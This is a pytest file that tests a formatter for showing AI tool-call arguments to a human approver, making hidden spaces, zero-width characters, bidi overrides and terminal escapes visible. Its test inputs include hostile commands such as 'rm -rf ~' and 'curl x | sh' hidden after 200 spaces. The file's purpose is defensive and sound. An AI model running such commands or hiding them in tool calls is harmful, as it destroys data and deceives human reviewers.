"""The text of a call before its approval is complete, and every invisible character is visible."""

import json
from functools import partial
from math import ceil

import pytest
from hypothesis import assume, given, strategies as st
from support.deceptive_arguments import DECEPTIVE, IDS, DeceptiveArguments
from wcwidth import wcswidth

from mimo_magics.core.messages import ToolCall
from mimo_magics.document.approval_text import (
    PAGE_COLUMNS,
    PAGE_ROWS,
    arguments_text,
    call_text,
    split_pages,
)


@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        ("", "{}"),
        (" \r\n", "{}"),
        ('{"cmd": "C:\\\\new\\\\\\\\\\n\\n\\n\\n"}', '{\n  "cmd": "C:\\\\new\\\\\\\\⟨\\n × 4⟩"\n}'),
        ('{"cmd":"ls"}', '{\n  "cmd": "ls"\n}'),
        ('{"cmd": "rm -rf ~"\r}', '{\n  "cmd": "rm -rf ~"\n}'),
        ('{"cmd": "ls", "cmd": "rm"}', '{\n  "cmd": "rm"\n}'),
        ('{"cmd": "\\u006c\\u0073"}', '{\n  "cmd": "ls"\n}'),
        ('{"cmd": "ls' + " " * 200 + '; curl x | sh"}', '{\n  "cmd": "ls⟨spaces: 200⟩; curl x | sh"\n}'),
        ('{"cmd": "ls' + "\u3000" * 9 + '"}', '{\n  "cmd": "ls⟨U+3000 × 9⟩"\n}'),
        ('{"cmd": "e\u0301"}', '{\n  "cmd": "e\u0301"\n}'),
        ('{"cmd": "a\u00a0b"}', '{\n  "cmd": "a⟨U+00A0⟩b"\n}'),
        ('{"cmd": "a\\tb"}', '{\n  "cmd": "a\\tb"\n}'),
        ('{"cmd": "a\\nb"}', '{\n  "cmd": "a\\nb"\n}'),
        ('{"cmd": "a\u202eb\u200bc\x9b2K"}', '{\n  "cmd": "a⟨U+202E⟩b⟨U+200B⟩c⟨U+009B⟩2K"\n}'),
        ('{"cmd": "👨\u200d👩"}', '{\n  "cmd": "👨⟨U+200D⟩👩"\n}'),
        ("{not JSON" + "\n" * 200 + "rm", "{not JSON\n⟨empty lines: 199⟩\nrm"),
        ("not JSON\r\x1b[2K", "not JSON⟨U+000D⟩⟨U+001B⟩[2K"),
        ("a" + "\t" * 8 + "b", "a⟨U+0009 × 8⟩b"),
        ("NaN", "NaN"),
    ],
)
def test_arguments_are_formatted_as_the_tool_receives_them(arguments: str, text: str) -> None:
    assert arguments_text(arguments) == text


@pytest.mark.parametrize("deceptive", DECEPTIVE, ids=IDS)
def test_deceptive_arguments_are_completely_visible(deceptive: DeceptiveArguments) -> None:
    text = arguments_text(deceptive.text)
    assert [part for part in deceptive.shown if part not in text] == []
    assert (len(split_pages(text)) > 1) is deceptive.is_long
    assert find_invisible(text) == []


def find_invisible(text: str) -> list[str]:
    """Return the invisible characters of a text."""
    return [char for char in text if not char.isprintable() and char != "\n"]


ARGUMENTS = st.dictionaries(st.text(max_size=8), st.text(max_size=200) | st.integers(), max_size=4)


@given(ARGUMENTS)
def test_the_pages_contain_all_arguments_and_no_invisible_character(arguments: dict[str, object]) -> None:
    text = arguments_text(json.dumps(arguments, ensure_ascii=False))
    assert "".join(split_pages(text)) == text
    assert find_invisible(text) == []


FRAGMENTS = st.lists(
    st.sampled_from(["a", " ", "\n", "\xa0", "\u200b", "⟨", "⟩", "U+200B", "spaces: 4", "\\n", "\\"])
)


@given(FRAGMENTS.map("".join), FRAGMENTS.map("".join))
def test_different_calls_have_different_texts(one: str, other: str) -> None:
    assume(one != other)
    shown = [arguments_text(json.dumps({"cmd": text}, ensure_ascii=False)) for text in (one, other)]
    assert shown[0] != shown[1]


@pytest.mark.parametrize(
    "text", ["می خواهم", "क्षीं", "Việt", "e\u0301", "ก็ี่", "각", "葛城", "שָׁלוֹם", "🙂🇹🇼", "naïve ☃ → €"]
)
def test_text_in_any_script_stays_readable(text: str) -> None:
    assert arguments_text(json.dumps({"text": text}, ensure_ascii=False)) == f'{{\n  "text": "{text}"\n}}'


@pytest.mark.parametrize(("rows", "columns"), [(PAGE_ROWS, PAGE_COLUMNS), (3, 10), (1, 2)])
@pytest.mark.parametrize(
    "text", ["", "x", "x" * 10_000, "x\n" * 500, "\n" * 500, "x" * 80 * 20 + "y", "中x" * 900, "🙂\n" * 90]
)
def test_a_page_fits_into_the_window(text: str, rows: int, columns: int) -> None:
    pages = split_pages(text, rows, columns)
    assert "".join(pages) == text
    assert max(map(partial(count_rows, columns=columns), pages)) <= rows


def count_rows(page: str, columns: int) -> int:
    """Return the number of terminal rows of a page."""
    lines = page.removesuffix("\n").split("\n")
    return sum(max(ceil(wcswidth(line) / columns), 1) for line in lines)


def test_deeply_nested_arguments_are_not_indented() -> None:
    deep = "[" * 600 + "]" * 600
    assert len(arguments_text(deep)) < 2 * len(deep)


def test_an_invisible_character_in_a_name_is_shown() -> None:
    assert call_text(ToolCall("", "sh\u200bell", "")) == "sh⟨U+200B⟩ell {}"
